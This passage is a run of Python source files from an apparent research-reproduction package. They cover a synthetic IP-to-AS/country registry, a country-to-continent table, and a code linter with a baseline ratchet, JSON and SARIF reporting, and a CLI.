    labels: Optional[Dict[str, str]] = None,
    k: int = 20,
) -> HashTables:
    """The three top-20 hash tables."""
    ctx = as_context(store)
    store = ctx.store
    stats = ctx.hash_stats
    return HashTables(
        by_sessions=top_hash_table(stats, store, intel, "sessions", k, labels),
        by_clients=top_hash_table(stats, store, intel, "clients", k, labels),
        by_days=top_hash_table(stats, store, intel, "days", k, labels),
    )


def format_table(rows: List[Tuple], headers: List[str]) -> str:
    """Plain-text table renderer used by the benchmarks."""
    str_rows = [[str(c) for c in row] for row in rows]
    widths = [
        max(len(headers[i]), *(len(r[i]) for r in str_rows)) if str_rows else len(headers[i])
        for i in range(len(headers))
    ]
    def fmt(row):
        return "  ".join(str(c).ljust(w) for c, w in zip(row, widths))
    lines = [fmt(headers), fmt(["-" * w for w in widths])]
    lines.extend(fmt(r) for r in str_rows)
    return "\n".join(lines)
