"""Synthetic geolocation / AS substrate.

The paper geolocates client IPs with MaxMind's commercial API and groups
them by country, continent and origin AS.  That database is proprietary, so
we build a deterministic synthetic equivalent: IPv4 space is carved into
per-AS prefixes, every AS belongs to a country and network type, and lookups
resolve an integer address to ``(asn, country, continent)`` via binary
search.  The API mirrors what the analysis layer needs from MaxMind.
"""

from repro.geo.continents import Continent, COUNTRY_CONTINENT, continent_of, country_name
from repro.geo.registry import AsRecord, NetworkType, GeoRegistry, GeoLookup

__all__ = [
    "Continent",
    "COUNTRY_CONTINENT",
    "continent_of",
    "country_name",
    "AsRecord",
    "NetworkType",
    "GeoRegistry",
    "GeoLookup",
]
