"""Synthetic AS / GeoIP registry.

IPv4 space is carved deterministically into per-AS prefixes.  Each AS record
carries a country, a network type (residential, datacenter, ...), and one or
more CIDR prefixes.  :class:`GeoLookup` resolves integer addresses to the
owning AS via binary search over the sorted prefix table — the same query
surface the paper gets from MaxMind + RIPEstat.
"""

from __future__ import annotations

import bisect
import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.geo.continents import Continent, continent_of
from repro.net.ip import IPv4Prefix
from repro.net.pools import AddressPool


class NetworkType(enum.Enum):
    RESIDENTIAL = "residential"
    DATACENTER = "datacenter"
    CLOUD = "cloud"
    MOBILE = "mobile"
    ACADEMIC = "academic"
    BUSINESS = "business"


@dataclass
class AsRecord:
    """One synthetic autonomous system."""

    asn: int
    country: str
    network_type: NetworkType
    prefixes: List[IPv4Prefix] = field(default_factory=list)
    name: str = ""

    @property
    def continent(self) -> Continent:
        return continent_of(self.country)

    def pool(self) -> AddressPool:
        return AddressPool(self.prefixes)


@dataclass(frozen=True)
class GeoLookup:
    """Result of resolving an IP address."""

    asn: int
    country: str
    continent: Continent
    network_type: NetworkType


class GeoRegistry:
    """Allocates AS prefixes out of IPv4 space and answers lookups.

    Allocation walks /16 blocks upward from ``base_network`` (default
    1.0.0.0), skipping nothing — the space is entirely synthetic.  Each AS
    receives ``n_prefixes`` /16 blocks (one by default; large eyeball ASes
    get more).
    """

    BLOCK_LENGTH = 16

    def __init__(self, base_network: str = "1.0.0.0"):
        self._next_block = IPv4Prefix.parse(f"{base_network}/{self.BLOCK_LENGTH}").network
        self._records: Dict[int, AsRecord] = {}
        # Sorted parallel arrays for lookup: prefix network -> asn.
        self._starts: List[int] = []
        self._ends: List[int] = []
        self._asns: List[int] = []
        self._next_asn = 64512  # private-use ASN range start

    # -- allocation --------------------------------------------------------

    def _take_block(self) -> IPv4Prefix:
        prefix = IPv4Prefix(self._next_block, self.BLOCK_LENGTH)
        self._next_block += prefix.num_addresses
        if self._next_block > 0xFFFFFFFF:
            raise RuntimeError("synthetic IPv4 space exhausted")
        return prefix

    def register_as(
        self,
        country: str,
        network_type: NetworkType,
        n_prefixes: int = 1,
        name: str = "",
        asn: Optional[int] = None,
    ) -> AsRecord:
        """Create a new AS with ``n_prefixes`` /16 allocations."""
        continent_of(country)  # validate the country code early
        if asn is None:
            asn = self._next_asn
            self._next_asn += 1
        elif asn in self._records:
            raise ValueError(f"ASN {asn} already registered")
        record = AsRecord(asn=asn, country=country, network_type=network_type, name=name)
        for _ in range(max(1, n_prefixes)):
            prefix = self._take_block()
            record.prefixes.append(prefix)
            idx = bisect.bisect_left(self._starts, prefix.network)
            self._starts.insert(idx, prefix.network)
            self._ends.insert(idx, prefix.last)
            self._asns.insert(idx, asn)
        self._records[asn] = record
        return record

    # -- queries -----------------------------------------------------------

    def lookup(self, address: int) -> Optional[GeoLookup]:
        """Resolve an integer IPv4 address, or None if unallocated."""
        idx = bisect.bisect_right(self._starts, address) - 1
        if idx < 0 or address > self._ends[idx]:
            return None
        record = self._records[self._asns[idx]]
        return GeoLookup(
            asn=record.asn,
            country=record.country,
            continent=record.continent,
            network_type=record.network_type,
        )

    def country_of(self, address: int) -> Optional[str]:
        found = self.lookup(address)
        return found.country if found else None

    def asn_of(self, address: int) -> Optional[int]:
        found = self.lookup(address)
        return found.asn if found else None

    def record(self, asn: int) -> AsRecord:
        return self._records[asn]

    def records(self) -> List[AsRecord]:
        return list(self._records.values())

    def ases_in_country(self, country: str) -> List[AsRecord]:
        return [r for r in self._records.values() if r.country == country]

    def countries(self) -> List[str]:
        return sorted({r.country for r in self._records.values()})

    def __len__(self) -> int:
        return len(self._records)

    # -- geo relations -------------------------------------------------------

    def relation(self, addr_a: int, addr_b: int) -> Tuple[bool, bool]:
        """(same_country, same_continent) for two addresses.

        Unallocated addresses compare as neither same-country nor
        same-continent.
        """
        a = self.lookup(addr_a)
        b = self.lookup(addr_b)
        if a is None or b is None:
            return (False, False)
        return (a.country == b.country, a.continent is b.continent)
