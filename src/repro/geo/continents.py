"""Country / continent reference data.

A static mapping of ISO 3166-1 alpha-2 country codes to continents for every
country the simulation uses (honeypot host countries plus client origin
countries).  The set intentionally covers more than the paper names so the
long-tail country distributions have realistic support.
"""

from __future__ import annotations

import enum
from typing import Dict


class Continent(enum.Enum):
    AFRICA = "AF"
    ASIA = "AS"
    EUROPE = "EU"
    NORTH_AMERICA = "NA"
    SOUTH_AMERICA = "SA"
    OCEANIA = "OC"

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


#: ISO alpha-2 country code -> (continent, human-readable name)
_COUNTRIES: Dict[str, tuple] = {
    # Asia
    "CN": (Continent.ASIA, "China"),
    "IN": (Continent.ASIA, "India"),
    "TW": (Continent.ASIA, "Taiwan"),
    "IR": (Continent.ASIA, "Iran"),
    "JP": (Continent.ASIA, "Japan"),
    "VN": (Continent.ASIA, "Vietnam"),
    "SG": (Continent.ASIA, "Singapore"),
    "KR": (Continent.ASIA, "South Korea"),
    "HK": (Continent.ASIA, "Hong Kong"),
    "TH": (Continent.ASIA, "Thailand"),
    "ID": (Continent.ASIA, "Indonesia"),
    "MY": (Continent.ASIA, "Malaysia"),
    "PH": (Continent.ASIA, "Philippines"),
    "PK": (Continent.ASIA, "Pakistan"),
    "BD": (Continent.ASIA, "Bangladesh"),
    "SA": (Continent.ASIA, "Saudi Arabia"),
    "AE": (Continent.ASIA, "United Arab Emirates"),
    "IL": (Continent.ASIA, "Israel"),
    "TR": (Continent.ASIA, "Turkey"),
    "KZ": (Continent.ASIA, "Kazakhstan"),
    "LK": (Continent.ASIA, "Sri Lanka"),
    "NP": (Continent.ASIA, "Nepal"),
    "KH": (Continent.ASIA, "Cambodia"),
    "MN": (Continent.ASIA, "Mongolia"),
    # Europe
    "RU": (Continent.EUROPE, "Russia"),
    "DE": (Continent.EUROPE, "Germany"),
    "FR": (Continent.EUROPE, "France"),
    "GB": (Continent.EUROPE, "United Kingdom"),
    "NL": (Continent.EUROPE, "Netherlands"),
    "IT": (Continent.EUROPE, "Italy"),
    "ES": (Continent.EUROPE, "Spain"),
    "PL": (Continent.EUROPE, "Poland"),
    "SE": (Continent.EUROPE, "Sweden"),
    "CH": (Continent.EUROPE, "Switzerland"),
    "BG": (Continent.EUROPE, "Bulgaria"),
    "RO": (Continent.EUROPE, "Romania"),
    "LT": (Continent.EUROPE, "Lithuania"),
    "UA": (Continent.EUROPE, "Ukraine"),
    "CZ": (Continent.EUROPE, "Czechia"),
    "AT": (Continent.EUROPE, "Austria"),
    "BE": (Continent.EUROPE, "Belgium"),
    "PT": (Continent.EUROPE, "Portugal"),
    "GR": (Continent.EUROPE, "Greece"),
    "HU": (Continent.EUROPE, "Hungary"),
    "DK": (Continent.EUROPE, "Denmark"),
    "FI": (Continent.EUROPE, "Finland"),
    "NO": (Continent.EUROPE, "Norway"),
    "IE": (Continent.EUROPE, "Ireland"),
    "SK": (Continent.EUROPE, "Slovakia"),
    "SI": (Continent.EUROPE, "Slovenia"),
    "HR": (Continent.EUROPE, "Croatia"),
    "RS": (Continent.EUROPE, "Serbia"),
    "EE": (Continent.EUROPE, "Estonia"),
    "LV": (Continent.EUROPE, "Latvia"),
    "MD": (Continent.EUROPE, "Moldova"),
    # North America
    "US": (Continent.NORTH_AMERICA, "United States"),
    "CA": (Continent.NORTH_AMERICA, "Canada"),
    "MX": (Continent.NORTH_AMERICA, "Mexico"),
    "PA": (Continent.NORTH_AMERICA, "Panama"),
    "CR": (Continent.NORTH_AMERICA, "Costa Rica"),
    "DO": (Continent.NORTH_AMERICA, "Dominican Republic"),
    "GT": (Continent.NORTH_AMERICA, "Guatemala"),
    # South America
    "BR": (Continent.SOUTH_AMERICA, "Brazil"),
    "AR": (Continent.SOUTH_AMERICA, "Argentina"),
    "CL": (Continent.SOUTH_AMERICA, "Chile"),
    "CO": (Continent.SOUTH_AMERICA, "Colombia"),
    "PE": (Continent.SOUTH_AMERICA, "Peru"),
    "EC": (Continent.SOUTH_AMERICA, "Ecuador"),
    "UY": (Continent.SOUTH_AMERICA, "Uruguay"),
    "VE": (Continent.SOUTH_AMERICA, "Venezuela"),
    "BO": (Continent.SOUTH_AMERICA, "Bolivia"),
    "PY": (Continent.SOUTH_AMERICA, "Paraguay"),
    # Africa
    "ZA": (Continent.AFRICA, "South Africa"),
    "EG": (Continent.AFRICA, "Egypt"),
    "NG": (Continent.AFRICA, "Nigeria"),
    "KE": (Continent.AFRICA, "Kenya"),
    "MA": (Continent.AFRICA, "Morocco"),
    "TN": (Continent.AFRICA, "Tunisia"),
    "GH": (Continent.AFRICA, "Ghana"),
    "SN": (Continent.AFRICA, "Senegal"),
    "TZ": (Continent.AFRICA, "Tanzania"),
    "UG": (Continent.AFRICA, "Uganda"),
    "DZ": (Continent.AFRICA, "Algeria"),
    "MU": (Continent.AFRICA, "Mauritius"),
    # Oceania
    "AU": (Continent.OCEANIA, "Australia"),
    "NZ": (Continent.OCEANIA, "New Zealand"),
    "FJ": (Continent.OCEANIA, "Fiji"),
}

COUNTRY_CONTINENT: Dict[str, Continent] = {cc: v[0] for cc, v in _COUNTRIES.items()}
COUNTRY_NAMES: Dict[str, str] = {cc: v[1] for cc, v in _COUNTRIES.items()}

ALL_COUNTRIES = sorted(_COUNTRIES)


def continent_of(country: str) -> Continent:
    """Continent of an ISO alpha-2 country code (raises KeyError if unknown)."""
    return COUNTRY_CONTINENT[country]


def country_name(country: str) -> str:
    """Human-readable name of an ISO alpha-2 country code."""
    return COUNTRY_NAMES[country]


def countries_in(continent: Continent) -> list:
    """All modelled country codes on a continent (sorted)."""
    return [cc for cc in ALL_COUNTRIES if COUNTRY_CONTINENT[cc] is continent]
