"""The findings model: what a lint rule reports and how it serialises.

A :class:`Finding` is one rule violation at one source location, carrying
the rule id, a human message, and a fix hint.  The JSON form (one object
per finding, under a versioned envelope — :func:`to_json`) is the stable
machine interface the CI gate and editor integrations consume.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List

#: Bump only on breaking changes to the JSON envelope below.
JSON_SCHEMA_VERSION = 1


@dataclass(frozen=True, order=True)
class Finding:
    """One rule violation at one source location."""

    path: str  # posix-style, as given to the engine
    line: int  # 1-based
    col: int   # 0-based (ast convention)
    rule: str  # rule id, e.g. "wall-clock"
    message: str
    hint: str = field(default="", compare=False)

    @property
    def key(self) -> str:
        """The baseline grouping key: location-independent identity."""
        return f"{self.path}::{self.rule}"

    def render(self) -> str:
        text = f"{self.path}:{self.line}:{self.col}: {self.rule}: {self.message}"
        if self.hint:
            text += f"  [hint: {self.hint}]"
        return text

    def to_dict(self) -> Dict[str, object]:
        return {
            "path": self.path,
            "line": self.line,
            "col": self.col,
            "rule": self.rule,
            "message": self.message,
            "hint": self.hint,
        }


def location_order(finding: Finding):
    """The report sort key: (path, line, col, rule).

    Explicit — not dataclass ordering, which would tie-break on message
    text — so text and JSON output are diff-stable across filesystems and
    directory-walk orders.
    """
    return (finding.path, finding.line, finding.col, finding.rule)


def render_text(findings: List[Finding]) -> str:
    """The human report: one line per finding plus a per-rule summary."""
    lines = [f.render() for f in sorted(findings, key=location_order)]
    if findings:
        counts: Dict[str, int] = {}
        for f in findings:
            counts[f.rule] = counts.get(f.rule, 0) + 1
        summary = ", ".join(f"{rule}: {n}" for rule, n in sorted(counts.items()))
        lines.append(f"-- {len(findings)} finding(s) ({summary})")
    else:
        lines.append("-- no findings")
    return "\n".join(lines)


def to_json(findings: List[Finding], baselined: int = 0) -> str:
    """The stable machine form (versioned envelope, findings sorted)."""
    counts: Dict[str, int] = {}
    for f in findings:
        counts[f.rule] = counts.get(f.rule, 0) + 1
    payload = {
        "version": JSON_SCHEMA_VERSION,
        "findings": [f.to_dict()
                     for f in sorted(findings, key=location_order)],
        "counts": {rule: counts[rule] for rule in sorted(counts)},
        "total": len(findings),
        "baselined": baselined,
    }
    return json.dumps(payload, indent=2, sort_keys=False) + "\n"
