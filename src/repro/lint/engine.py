"""The lint engine: walk files, run rules, honour suppressions + baseline.

:func:`run_lint` is the library entry point (the CLI and the pytest gate
are thin wrappers): collect ``*.py`` files under the given paths, parse
each once, run every rule's visitor over the shared tree, drop findings
suppressed inline (``# repro: lint-ok[rule]``), then absorb grandfathered
findings into the baseline.  What remains is what fails CI.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, FrozenSet, Iterable, List, Optional, Sequence, \
    Tuple, Union

from repro.lint.baseline import apply_baseline, load_baseline
from repro.lint.findings import Finding
from repro.lint.graph import ProjectGraph
from repro.lint.rules import FileContext, ProjectRule, Rule, default_rules
from repro.lint.suppressions import collect_suppressions, is_suppressed

PathLike = Union[str, Path]

#: Directory names never descended into.
_SKIP_DIRS = {"__pycache__", ".git", ".hypothesis", ".pytest_cache"}


@dataclass
class LintResult:
    """Outcome of one lint run."""

    findings: List[Finding] = field(default_factory=list)  # post-everything
    suppressed: int = 0   # dropped by inline lint-ok comments
    baselined: int = 0    # absorbed by the baseline file
    files: int = 0        # files linted

    @property
    def clean(self) -> bool:
        return not self.findings


def iter_python_files(paths: Sequence[PathLike]) -> Iterable[Path]:
    """All ``*.py`` files under ``paths`` (files pass through), sorted."""
    out: List[Path] = []
    for raw in paths:
        path = Path(raw)
        if path.is_dir():
            out.extend(
                p for p in sorted(path.rglob("*.py"))
                if not (set(p.parts) & _SKIP_DIRS)
            )
        elif path.suffix == ".py":
            out.append(path)
    return sorted(set(out))


def _package_relative(path: Path) -> str:
    """The path relative to the ``repro`` package root, else the basename.

    ``src/repro/store/npz.py`` -> ``store/npz.py``; files outside the
    package (fixtures, scratch files) reduce to their basename, which
    matches no layer allowlist — every layer-scoped rule applies to them.
    """
    parts = path.parts
    for i in range(len(parts) - 1, -1, -1):
        if parts[i] == "repro" and (i == 0 or parts[i - 1] == "src"):
            return "/".join(parts[i + 1:])
    return path.name


def _display_path(path: Path) -> str:
    """Posix path, cwd-relative when possible (stable finding identity)."""
    try:
        return path.resolve().relative_to(Path.cwd()).as_posix()
    except ValueError:
        return path.as_posix()


def _load_context(
    path: Path,
) -> Tuple[Optional[FileContext], List[Finding]]:
    """Parse one file -> (context, parse-error findings)."""
    display = _display_path(path)
    try:
        source = path.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError) as exc:
        return None, [Finding(display, 1, 0, "unreadable", str(exc), "")]
    try:
        tree = ast.parse(source, filename=str(path))
    except SyntaxError as exc:
        return None, [Finding(
            display, exc.lineno or 1, exc.offset or 0,
            "syntax-error", exc.msg or "syntax error", "",
        )]
    return FileContext(
        path=display,
        rel=_package_relative(path),
        tree=tree,
        source=source,
    ), []


def lint_file(
    path: Path, rules: Sequence[Rule]
) -> Tuple[List[Finding], int]:
    """Lint one file with the *per-file* rules -> (findings, suppressed).

    Graph-aware rules (:class:`~repro.lint.rules.ProjectRule`) need the
    whole project and are skipped here; :func:`run_lint` runs them.
    """
    ctx, errors = _load_context(path)
    if ctx is None:
        return errors, 0
    suppressions = collect_suppressions(ctx.source)
    kept: List[Finding] = []
    suppressed = 0
    for rule in rules:
        if isinstance(rule, ProjectRule):
            continue
        for finding in rule.check(ctx):
            if is_suppressed(suppressions, finding.line, finding.rule):
                suppressed += 1
            else:
                kept.append(finding)
    return kept, suppressed


def run_lint(
    paths: Sequence[PathLike],
    rules: Optional[Sequence[Rule]] = None,
    baseline: Union[None, PathLike, Dict[str, int]] = None,
) -> LintResult:
    """Lint ``paths`` with ``rules`` (default: all) against ``baseline``.

    Each file is parsed once; per-file rules run over its tree, then the
    graph-aware rules run once over the whole-program
    :class:`~repro.lint.graph.ProjectGraph` built from every parsed file.
    Inline suppressions apply to graph findings through the file owning
    the flagged line, exactly as for per-file findings.  ``baseline`` may
    be a mapping (``{"path::rule": count}``), a path to a baseline JSON
    file, or None for no baseline.
    """
    active: Sequence[Rule] = default_rules() if rules is None else rules
    file_rules = [r for r in active if not isinstance(r, ProjectRule)]
    project_rules = [r for r in active if isinstance(r, ProjectRule)]
    if baseline is None:
        counts: Dict[str, int] = {}
    elif isinstance(baseline, dict):
        counts = baseline
    else:
        counts = load_baseline(baseline)
    result = LintResult()
    all_findings: List[Finding] = []
    contexts: List[FileContext] = []
    suppressions_by_path: Dict[str, Dict[int, FrozenSet[str]]] = {}
    for path in iter_python_files(paths):
        ctx, errors = _load_context(path)
        result.files += 1
        if ctx is None:
            all_findings.extend(errors)
            continue
        contexts.append(ctx)
        suppressions = collect_suppressions(ctx.source)
        suppressions_by_path[ctx.path] = suppressions
        for rule in file_rules:
            for finding in rule.check(ctx):
                if is_suppressed(suppressions, finding.line, finding.rule):
                    result.suppressed += 1
                else:
                    all_findings.append(finding)
    if project_rules and contexts:
        graph = ProjectGraph.build(contexts)
        for rule in project_rules:
            for finding in rule.check_project(graph):
                suppressions = suppressions_by_path.get(finding.path, {})
                if is_suppressed(suppressions, finding.line, finding.rule):
                    result.suppressed += 1
                else:
                    all_findings.append(finding)
    result.findings, result.baselined = apply_baseline(all_findings, counts)
    result.findings.sort()
    return result
