"""The findings baseline: grandfathered violations, checked in as a file.

A baseline lets the gate turn on while legacy findings still exist: each
``(path, rule)`` key carries the count of findings accepted at baseline
time, and the engine subtracts up to that many findings per key before
failing.  Counts (not line numbers) keep the file stable under unrelated
edits.  The repository's checked-in baseline (``lint_baseline.json``) is
empty — every finding the linter knows about has been fixed — but the
mechanism stays, so a future rule can land before its violations do.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Dict, List, Tuple, Union

from repro.lint.findings import Finding

BASELINE_VERSION = 1

#: The default checked-in baseline filename (repo root / lint cwd).
DEFAULT_BASELINE = "lint_baseline.json"


class BaselineRatchetError(ValueError):
    """Refusal to grow a baseline: the ratchet only turns one way.

    Raised by :func:`write_baseline` (without ``force=True``) when the
    new findings would *increase* any per-``(path, rule)`` count over
    the baseline already on disk.  Shrinking counts, dropping keys and
    moving findings within a file are always allowed — only net new
    debt needs ``--force``.
    """

    def __init__(self, grown: Dict[str, Tuple[int, int]]):
        self.grown = dict(grown)
        detail = ", ".join(
            f"{key} ({old} -> {new})"
            for key, (old, new) in sorted(grown.items())
        )
        super().__init__(
            f"baseline ratchet: refusing to grow finding counts "
            f"({detail}); pass force=True/--force to accept new debt"
        )


def load_baseline(path: Union[str, Path]) -> Dict[str, int]:
    """Read a baseline file -> ``{"path::rule": count}`` (missing = empty)."""
    p = Path(path)
    if not p.exists():
        return {}
    data = json.loads(p.read_text(encoding="utf-8"))
    if not isinstance(data, dict) or data.get("version") != BASELINE_VERSION:
        raise ValueError(f"{path}: not a version-{BASELINE_VERSION} lint baseline")
    counts = data.get("findings", {})
    return {str(key): int(n) for key, n in counts.items()}


def write_baseline(
    path: Union[str, Path], findings: List[Finding],
    force: bool = False,
) -> None:
    """Accept ``findings`` as the new baseline at ``path``.

    When a baseline already exists at ``path``, any per-key count
    increase raises :class:`BaselineRatchetError` unless ``force`` —
    the ratchet that keeps CI from quietly re-grandfathering new debt.
    Writing a first baseline to a fresh path is always allowed.
    """
    counts: Dict[str, int] = {}
    for f in findings:
        counts[f.key] = counts.get(f.key, 0) + 1
    if not force and Path(path).exists():
        existing = load_baseline(path)
        grown = {
            key: (existing.get(key, 0), count)
            for key, count in counts.items()
            if count > existing.get(key, 0)
        }
        if grown:
            raise BaselineRatchetError(grown)
    payload = {
        "version": BASELINE_VERSION,
        "findings": {key: counts[key] for key in sorted(counts)},
    }
    Path(path).write_text(
        json.dumps(payload, indent=2) + "\n", encoding="utf-8"
    )


def apply_baseline(
    findings: List[Finding], baseline: Dict[str, int]
) -> Tuple[List[Finding], int]:
    """Split findings into (unsuppressed, number absorbed by the baseline).

    Findings are absorbed per ``(path, rule)`` key in source order, up to
    the baselined count; the remainder — new violations — are returned.
    """
    remaining = dict(baseline)
    fresh: List[Finding] = []
    absorbed = 0
    for finding in sorted(findings):
        left = remaining.get(finding.key, 0)
        if left > 0:
            remaining[finding.key] = left - 1
            absorbed += 1
        else:
            fresh.append(finding)
    return fresh, absorbed
