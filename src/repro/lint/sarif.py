"""SARIF 2.1.0 output: lint findings as CI code-scanning annotations.

:func:`to_sarif` renders a finding list as a minimal single-run SARIF
log — the subset GitHub code scanning and editor SARIF viewers consume:
one ``run`` with a tool driver declaring every rule, and one ``result``
per finding with a physical location (1-based line, 1-based column).

The container ships no ``jsonschema``, so :func:`validate_sarif` is a
hand-rolled structural validator over the same subset: it checks exactly
the shape :func:`to_sarif` promises (required keys, types, rule-id
cross-references), which is what the CI stage asserts before publishing
the artifact.
"""

from __future__ import annotations

import json
from typing import Any, Dict, List, Sequence

from repro.lint.findings import Finding, location_order
from repro.lint.rules import Rule

SARIF_VERSION = "2.1.0"
SARIF_SCHEMA = (
    "https://json.schemastore.org/sarif-2.1.0.json"
)
_TOOL_NAME = "repro-lint"


def to_sarif(
    findings: Sequence[Finding], rules: Sequence[Rule],
) -> str:
    """The SARIF 2.1.0 log for ``findings`` (rules declared up front)."""
    declared = {rule.id: rule for rule in rules if rule.id}
    # Findings from pseudo-rules (syntax-error, unreadable) still need a
    # driver entry for the ruleId cross-reference to validate.
    for finding in findings:
        declared.setdefault(finding.rule, None)
    rule_ids = sorted(declared)
    rule_index = {rule_id: i for i, rule_id in enumerate(rule_ids)}

    driver_rules: List[Dict[str, Any]] = []
    for rule_id in rule_ids:
        rule = declared[rule_id]
        entry: Dict[str, Any] = {"id": rule_id}
        if rule is not None:
            entry["shortDescription"] = {"text": rule.summary}
            if rule.hint:
                entry["help"] = {"text": rule.hint}
        driver_rules.append(entry)

    results: List[Dict[str, Any]] = []
    for finding in sorted(findings, key=location_order):
        message = finding.message
        if finding.hint:
            message += f" [hint: {finding.hint}]"
        results.append({
            "ruleId": finding.rule,
            "ruleIndex": rule_index[finding.rule],
            "level": "error",
            "message": {"text": message},
            "locations": [{
                "physicalLocation": {
                    "artifactLocation": {"uri": finding.path},
                    "region": {
                        "startLine": max(finding.line, 1),
                        "startColumn": finding.col + 1,
                    },
                },
            }],
        })

    payload = {
        "$schema": SARIF_SCHEMA,
        "version": SARIF_VERSION,
        "runs": [{
            "tool": {
                "driver": {
                    "name": _TOOL_NAME,
                    "informationUri":
                        "https://example.invalid/repro-lint",
                    "rules": driver_rules,
                },
            },
            "results": results,
        }],
    }
    return json.dumps(payload, indent=2) + "\n"


def validate_sarif(payload: Dict[str, Any]) -> List[str]:
    """Structural problems in a SARIF log (empty list = valid subset)."""
    problems: List[str] = []

    def check(cond: bool, message: str) -> bool:
        if not cond:
            problems.append(message)
        return cond

    if not check(isinstance(payload, dict), "payload is not an object"):
        return problems
    check(payload.get("version") == SARIF_VERSION,
          f"version is not {SARIF_VERSION!r}")
    check(isinstance(payload.get("$schema"), str), "$schema missing")
    runs = payload.get("runs")
    if not check(isinstance(runs, list) and len(runs) >= 1,
                 "runs must be a non-empty array"):
        return problems
    for r, run in enumerate(runs):
        if not check(isinstance(run, dict), f"runs[{r}] not an object"):
            continue
        driver = run.get("tool", {}).get("driver", {}) \
            if isinstance(run.get("tool"), dict) else {}
        check(isinstance(driver.get("name"), str) and driver.get("name"),
              f"runs[{r}].tool.driver.name missing")
        rules = driver.get("rules", [])
        rule_ids: List[str] = []
        if check(isinstance(rules, list),
                 f"runs[{r}].tool.driver.rules not an array"):
            for i, rule in enumerate(rules):
                ok = isinstance(rule, dict) \
                    and isinstance(rule.get("id"), str)
                check(ok, f"runs[{r}].rules[{i}] missing string id")
                if ok:
                    rule_ids.append(rule["id"])
        results = run.get("results")
        if not check(isinstance(results, list),
                     f"runs[{r}].results not an array"):
            continue
        for i, result in enumerate(results):
            where = f"runs[{r}].results[{i}]"
            if not check(isinstance(result, dict),
                         f"{where} not an object"):
                continue
            rule_id = result.get("ruleId")
            check(isinstance(rule_id, str) and bool(rule_id),
                  f"{where}.ruleId missing")
            if isinstance(rule_id, str) and rule_ids:
                check(rule_id in rule_ids,
                      f"{where}.ruleId {rule_id!r} not declared by driver")
            index = result.get("ruleIndex")
            if index is not None:
                check(isinstance(index, int) and 0 <= index < len(rule_ids)
                      and rule_ids[index] == rule_id,
                      f"{where}.ruleIndex does not point at ruleId")
            check(result.get("level") in ("none", "note", "warning",
                                          "error"),
                  f"{where}.level invalid")
            message = result.get("message")
            check(isinstance(message, dict)
                  and isinstance(message.get("text"), str),
                  f"{where}.message.text missing")
            locations = result.get("locations")
            if not check(isinstance(locations, list) and locations,
                         f"{where}.locations must be non-empty"):
                continue
            for j, loc in enumerate(locations):
                phys = loc.get("physicalLocation", {}) \
                    if isinstance(loc, dict) else {}
                art = phys.get("artifactLocation", {}) \
                    if isinstance(phys, dict) else {}
                check(isinstance(art.get("uri"), str),
                      f"{where}.locations[{j}] artifact uri missing")
                region = phys.get("region", {}) \
                    if isinstance(phys, dict) else {}
                line = region.get("startLine") \
                    if isinstance(region, dict) else None
                check(isinstance(line, int) and line >= 1,
                      f"{where}.locations[{j}].region.startLine invalid")
                col = region.get("startColumn") \
                    if isinstance(region, dict) else None
                if col is not None:
                    check(isinstance(col, int) and col >= 1,
                          f"{where}.locations[{j}].region.startColumn "
                          f"invalid")
    return problems
