"""The lint CLI: ``python -m repro lint [paths...]``.

Exit status 0 means zero unsuppressed, un-baselined findings; 1 means the
gate fails (findings were printed); 2 means usage error.  ``--format
json`` emits the versioned machine envelope instead of the text report.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path
from typing import List, Optional

from repro.lint.baseline import BaselineRatchetError, DEFAULT_BASELINE, \
    write_baseline
from repro.lint.engine import run_lint
from repro.lint.findings import render_text, to_json
from repro.lint.rules import ALL_RULES, default_rules, select_rules
from repro.lint.sarif import to_sarif


def add_lint_arguments(parser: argparse.ArgumentParser) -> None:
    """The lint subcommand's arguments (shared with ``repro.__main__``)."""
    parser.add_argument(
        "paths", nargs="*", default=None, metavar="PATH",
        help="files or directories to lint (default: src/ if present, "
             "else the current directory)",
    )
    parser.add_argument(
        "--format", choices=("text", "json", "sarif"), default="text",
        help="report format (default: text); sarif emits a SARIF 2.1.0 "
             "log for CI code-scanning annotations",
    )
    parser.add_argument(
        "--baseline", default=None, metavar="FILE",
        help=f"baseline file of grandfathered findings (default: "
             f"{DEFAULT_BASELINE} when it exists)",
    )
    parser.add_argument(
        "--no-baseline", action="store_true",
        help="ignore any baseline file (report every finding)",
    )
    parser.add_argument(
        "--write-baseline", action="store_true",
        help="accept the current findings as the new baseline and exit 0 "
             "(refuses to grow existing counts without --force)",
    )
    parser.add_argument(
        "--force", action="store_true",
        help="allow --write-baseline to grow finding counts (new debt)",
    )
    parser.add_argument(
        "--rules", default=None, metavar="ID[,ID...]",
        help="run only these rule ids (default: all)",
    )
    parser.add_argument(
        "--list-rules", action="store_true",
        help="print the rule table and exit",
    )


def _list_rules() -> str:
    lines = ["rule id            invariant"]
    for rule in ALL_RULES:
        lines.append(f"{rule.id:<18} {rule.summary}")
    lines.append(
        "suppress one site with `# repro: lint-ok[rule-id]` on (or directly "
        "above) the flagged line"
    )
    return "\n".join(lines)


def cmd_lint(args: argparse.Namespace) -> int:
    """Run the linter per parsed ``args`` (the repro CLI entry point)."""
    if args.list_rules:
        print(_list_rules())
        return 0

    paths = args.paths or (["src"] if Path("src").is_dir() else ["."])
    try:
        rules = (select_rules([r.strip() for r in args.rules.split(",")])
                 if args.rules else None)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    if args.no_baseline:
        baseline = None
    elif args.baseline is not None:
        baseline = args.baseline
    else:
        baseline = DEFAULT_BASELINE if Path(DEFAULT_BASELINE).exists() else None

    if args.write_baseline:
        # Baseline what a no-baseline run reports (suppressions still apply).
        result = run_lint(paths, rules=rules, baseline=None)
        target = args.baseline or DEFAULT_BASELINE
        try:
            write_baseline(target, result.findings, force=args.force)
        except BaselineRatchetError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        print(f"baseline of {len(result.findings)} finding(s) "
              f"written to {target}")
        return 0

    result = run_lint(paths, rules=rules, baseline=baseline)
    if args.format == "json":
        sys.stdout.write(to_json(result.findings, baselined=result.baselined))
    elif args.format == "sarif":
        sys.stdout.write(to_sarif(result.findings,
